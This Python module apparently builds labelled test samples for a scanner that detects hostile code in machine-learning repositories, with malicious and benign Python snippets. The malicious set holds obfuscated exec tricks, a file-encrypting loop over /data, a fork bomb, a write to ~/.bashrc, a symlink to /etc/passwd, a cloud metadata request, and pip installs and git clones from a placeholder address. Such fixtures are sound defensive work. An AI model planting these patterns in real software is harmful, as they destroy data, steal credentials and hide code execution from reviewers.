"""Python source that runs what was written as numbers, moves the search path, or hurts the process; and what looks like it.

Commands are `echo` at most; addresses are of RFC 5737 and lead nowhere.
"""

from __future__ import annotations

from stannary.testing.forges import forge

__all__: list[str] = []

_ECHO = b"import os; os.system('echo stannary')"
_NUMBER = int.from_bytes(_ECHO, "big")
_HOSTILE = {
    "exec_integer": f"exec(({_NUMBER}).to_bytes({len(_ECHO)}, 'big').decode())\n",
    "exec_integer_of_nothing_known": "import json\nn = json.load(open('n.json'))\nexec(int.to_bytes(n, 99, 'big').decode() + (7).to_bytes(1, 'big').decode())\n",
    "exec_percent": "exec('%c%c%c%c%c%c%c%c' % (112, 114, 105, 110, 116, 40, 49, 41))\n",
    "exec_struct": "import struct\nexec(struct.pack('>8B', 112, 114, 105, 110, 116, 40, 49, 41))\n",
    "exec_array": "import array\nexec(array.array('B', [112, 114, 105, 110, 116, 40, 49, 41]).tobytes())\n",
    "exec_numpy": "import numpy as np\nexec(np.array([112, 114, 105, 110, 116, 40, 49, 41], dtype='uint8').tobytes())\n",
    "exec_two_lists": "exec(''.join(chr(a ^ b) for a, b in zip([113, 112, 106, 106, 117, 40, 48, 40], [1, 2, 3, 4, 1, 0, 1, 1])))\n",
    "exec_own_docstring": "'''import os; os.system('echo stannary')'''\nexec(__doc__)\n",
    "exec_weights": "exec(open('weights.bin').read())\n",
    "lambda_default": "import os\nf = lambda x=os.system('echo stannary'): x\n",
    "module_of_a_module": "import shutil\nshutil.os.system('echo stannary')\n",
    "module_of_a_library": "import numpy.testing as t\nt._private.utils.os.popen('echo stannary')\n",
    "frame_builtins": "import inspect\ninspect.currentframe().f_builtins['eval']('1')\n",
    "foreign_system": "import cffi\nf = cffi.FFI()\nf.cdef('int system(char*);')\nf.dlopen(None).system(b'echo stannary')\n",
    "path_opened_to_append": "from pathlib import Path\n(Path.home() / '.bashrc').open('a').write('echo stannary')\n",
    "search_packed": "import sys\nsys.path.insert(0, 'weights.zip')\nimport payload\n",
    "source_without_its_name": "import importlib.util as u\ns = u.spec_from_file_location('x', 'weights.bin')\ns.loader.exec_module(u.module_from_spec(s))\n",
    "loads_vocabulary_as_source": "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'vocab.txt').load_module()\n",
    "enciphers_what_it_finds": "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor d, _, names in os.walk('/data'):\n    for n in names:\n        p = os.path.join(d, n)\n        b = f.encrypt(open(p, 'rb').read())\n        open(p, 'wb').write(b)\n",
    "links_a_secret": "import os\nos.symlink('/etc/passwd', 'vocab.txt')\n",
    "asks_the_cloud": "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/')\n",
    "clones_on_import": "import subprocess\nsubprocess.run(['git', 'clone', 'http://203.0.113.9/x.git'])\n",
    "installs_from_an_address": "import pip\npip.main(['install', 'git+http://203.0.113.9/x'])\n",
    "loads_from_an_address": "import torch\ntorch.hub.load_state_dict_from_url('http://203.0.113.9/x.pt', weights_only=False)\n",
}
_IMPORTED = {
    "forks_on_import": "import os\nwhile True:\n    os.fork()\n",
    "kills_its_parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
    "unsafe_weights": "import torch\nW = torch.load('w.pt', weights_only=False)\n",
    "unpickles": "import pickle\nW = pickle.load(open('w.bin', 'rb'))\n",
    "joblib": "import joblib\nW = joblib.load('w.bin')\n",
    "object_arrays": "import numpy as np\nW = np.load('w.npy', allow_pickle=True)\n",
    "yaml_objects": "import yaml\nC = yaml.load(open('c.yaml'), Loader=yaml.Loader)\n",
    "hub_on_the_path": "from huggingface_hub import snapshot_download\nimport sys\nsys.path.append(snapshot_download('org/name'))\nimport extra\n",
    "lists_files_on_import": "import os\nos.system('ls')\n",
    "leaves_a_file": "open('/tmp/stannary', 'w').write('x')\n",
    "touches_a_file": "from pathlib import Path\nPath('/tmp/stannary').touch()\n",
    "makes_a_folder": "import os\nos.makedirs('/tmp/stannary/x')\n",
    "connects_on_import": "import socket\ns = socket.socket()\ns.connect(('example.org', 80))\n",
    "code_on_import": "import code\ncode.InteractiveConsole().push('1 + 1')\n",
}
for _name, _text in _HOSTILE.items():
    forge(f"python.{_name}", filename="train.py", family="Python source", malicious=True)(_text.encode)
for _name, _text in _IMPORTED.items():
    forge(f"python.{_name}", filename="modeling_x.py", family="Python source", malicious=True)(_text.encode)
forge("python.layer_runs", filename="net.py", family="Python source", malicious=True)(
    lambda: (
        b"import os\nfrom torch import nn\nclass Net(nn.Module):\n    def forward(self, x):\n"
        b"        os.system('echo stannary')\n        return x\n"
    )
)

_BENIGN = {
    "numbers_plain": (
        "train.py",
        (
            "import struct, sys\nimport numpy as np\nHEADER = struct.pack('<4sI', b'GGUF', 3)\nNAMES = ''.join(map(chr, [97, 98, 99, 100]))\n"
            "row = np.array([1, 2, 3, 4]).tobytes()\nsys.path.insert(0, 'src')\nrate = '%c%c%c%c' % (97, 98, 99, 100)\nsize = (1024).to_bytes(4, 'big')\n"
            "lines = chr(10).join(['a', 'b'])\nfor a, b in zip([1, 2], [3, 4]):\n    print(a ^ b)\nexec(compile(open('version.py').read(), 'version.py', 'exec'))\n"
        ),
    ),
    "asks_plain": (
        "modeling_x.py",
        (
            "import os\nfrom pathlib import Path\nHERE = Path(__file__).parent\n(HERE / 'cache').mkdir(exist_ok=True)\n"
            "os.makedirs('cache', exist_ok=True)\n"
            "rate = open('rates.txt').read()\nnull = open('/dev/null', 'w')\n"
        ),
    ),
    "imported_plain": (
        "modeling_x.py",
        (
            "import math, os\nimport torch\nfrom torch import nn\nHERE = os.path.dirname(os.path.abspath(__file__))\n"
            "def load(path):\n    return torch.load(path, map_location='cpu')\n"
            "def vocabulary(path):\n    import pickle\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n"
            "class Net(nn.Module):\n    def __init__(self, width, scale=lambda x=math.sqrt(2): x):\n        super().__init__()\n"
            "        self.l = nn.Linear(width, width)\n    def forward(self, x):\n        return getattr(torch.nn.functional, 'relu')(self.l(x))\n"
        ),
    ),
    "processes_plain": (
        "serve.py",
        (
            "import os, signal, subprocess\nimport requests\ndef stop(pid):\n    os.kill(pid, signal.SIGTERM)\ndef daemon():\n    if os.fork():\n"
            "        os._exit(0)\ndef up():\n    return requests.get('http://127.0.0.1:8000/health').ok\nrequests.get('http://192.168.1.4/health', timeout=1)\n"
            "if __name__ == '__main__':\n    os.kill(os.getpid(), 0)\n"
        ),
    ),
    "path_plain": (
        "prepare.py",
        (
            "from importlib.util import module_from_spec, spec_from_file_location\nfrom pathlib import Path\n(Path('out') / 'log.txt').open('a').write('x')\n"
            "(Path.home() / '.cache' / 'x.json').open().read()\ns = spec_from_file_location('conf', 'conf.py')\nos_name = 'links'\n"
        ),
    ),
}
for _name, (_file, _text) in _BENIGN.items():
    forge(f"python.{_name}", filename=_file, family="Python source", malicious=False)(_text.encode)
